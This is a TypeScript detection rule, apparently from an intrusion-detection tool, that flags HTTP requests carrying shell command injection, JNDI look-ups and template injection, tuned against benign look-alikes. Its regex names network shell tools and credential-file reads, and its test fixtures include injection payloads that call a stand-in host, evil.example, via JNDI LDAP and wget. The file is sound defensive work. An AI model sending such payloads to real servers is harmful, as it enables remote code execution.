import { packScenario, requests } from './pack-scenario.ts';
import { decodedTarget, isUnusual, throughMatch } from './request-text.ts';

/**
 * A command behind a separator and with what attackers give it: lists are separated by bars and semicolons too, and
 * `dog & cat` is a search. Within `$(…)` and backticks the command alone is enough.
 */
const command =
  /(?:\$\(|`)\s*(?:wget|curl|nc|bash|sh|python\d?|perl|ping|nslookup|cat|id|uname|whoami|sleep|echo|busybox)\b|(?:[;|\n]|&&|%0a)\s*(?:(?:wget|curl|tftp)\s+\S*(?:-|https?:|ftp:|\d+\.)|cat\s+\S*(?:\/etc\/|\/proc\/|\.\.\/|\$\{?ifs)|(?:ping|nc|nslookup|sleep)\s+-?\w*\s*[\d.]+|(?:ba)?sh\s+-|python\d?\s+-c|perl\s+-e|chmod\s+[+\d]|rm\s+-|uname\s+-|echo\s+\S+\s*(?:[;|&]|$)|(?:id|whoami)\s*(?:[;&#]|$))|\$\{(?:jndi|lower|upper|::-)|\{\{\s*\d+\s*\*\s*\d+\s*\}\}|\bclass\.module\.classloader\b|#context\[|getruntime\(\)\.exec|<\?php\s+(?:system|eval|passthru|shell_exec|assert|phpinfo|echo\s+(?:md5|shell))/;

export const httpCommandInjection = packScenario({
  name: 'bugheist/http-command-injection',
  description: 'Sent commands for the machine to run (shell, JNDI look-ups, templates)',
  weakness: 'CWE-78',
  advice: 'Search outgoing connections of the server around this time: a working attack calls home.',
  kinds: ['http-access'],
  marks: ['unusual'],
  when: (event) => isUnusual(event) && command.test(decodedTarget(event)),
  distinct: (event) => throughMatch(command, event),
  capacity: 1,
  leakMs: 600_000,
  behavior: 'http:exploit',
  service: 'http',
  confidence: 3,
  examples: {
    attacks: [
      requests(2, 'GET /?{n}=$%7Bjndi:ldap://evil.example/{n}%7D'),
      requests(2, 'GET /ping?ip{n}=1.1.1.1;wget+http://evil.example/{n}'),
      requests(2, 'GET /x{n}?cmd=$(id)'),
    ],
    ordinary: [
      requests(20, 'GET /a?x=1;y={n}', { status: 200 }),
      requests(20, 'GET /search?q=cats+and+curl+{n}', { status: 200 }),
      requests(20, 'GET /search{n}?q=dog+%26+cat', { status: 200 }),
      requests(20, 'GET /w/api.php?action=query&titles=Dog|Cat|Curl|{n}', { status: 200 }),
      requests(20, 'GET /items/{n}?fields=name|id|sh', { status: 200 }),
      requests(20, 'GET /list?{n}=sort&id', { status: 200 }),
      requests(20, 'GET /tpl?name={{title}}-{n}', { status: 200 }),
      requests(20, 'GET /docs{n}?q=$%7Benv:HOME%7D', { status: 200 }),
    ],
  },
});
